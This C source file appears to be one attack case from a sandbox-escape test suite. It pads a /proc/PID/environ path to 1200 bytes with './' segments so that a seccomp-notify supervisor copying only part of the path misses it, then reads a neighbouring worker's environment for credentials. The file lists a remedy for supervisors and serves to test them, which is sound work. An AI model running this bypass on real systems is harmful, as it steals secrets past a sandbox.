// SPDX-License-Identifier: MIT
/*
 * Goal:  the worker's credentials, past a supervisor that copies the path into a small buffer.
 * Means: a path of 1200 bytes, /proc/./././.../PID/environ, of which such a supervisor sees only
 *        the beginning. The kernel takes PATH_MAX, 4096.
 */
#include "attacks/proc-read/neighbours.h"

#include <fcntl.h>
#include <stdio.h>

static bool rob(pid_t pid)
{
	static const size_t length = 1200;
	char path[2048] = "/proc/";
	size_t n = strlen(path);

	while (n < length) {
		path[n++] = '.';
		path[n++] = '/';
	}
	snprintf(path + n, sizeof(path) - n, "%d/environ", pid);
	return loot_environ(open(path, O_RDONLY | O_CLOEXEC));
}

static enum claim run(const struct brief *b)
{
	attempting(b);
	return any_neighbour(b, rob) ? CLAIM_DONE : denied("a path of 1200 bytes");
}

const struct attack attack = {
	.effect = "the worker's environment is read through /proc",
	.means = "a path longer than a supervisor's buffer: /proc/./././ ... /PID/environ",
	.oracle = "secret:environ",
	.id = "PROC-13",
	.attack_id = "T1057, T1003.007, CWE-636",
	.remedy = "a supervisor that refuses what it cannot read whole; Landlock without /proc",
	.refs = (const char *const[]){ "seccomp_unotify(2), Caveats", NULL },
	.run = run,
};
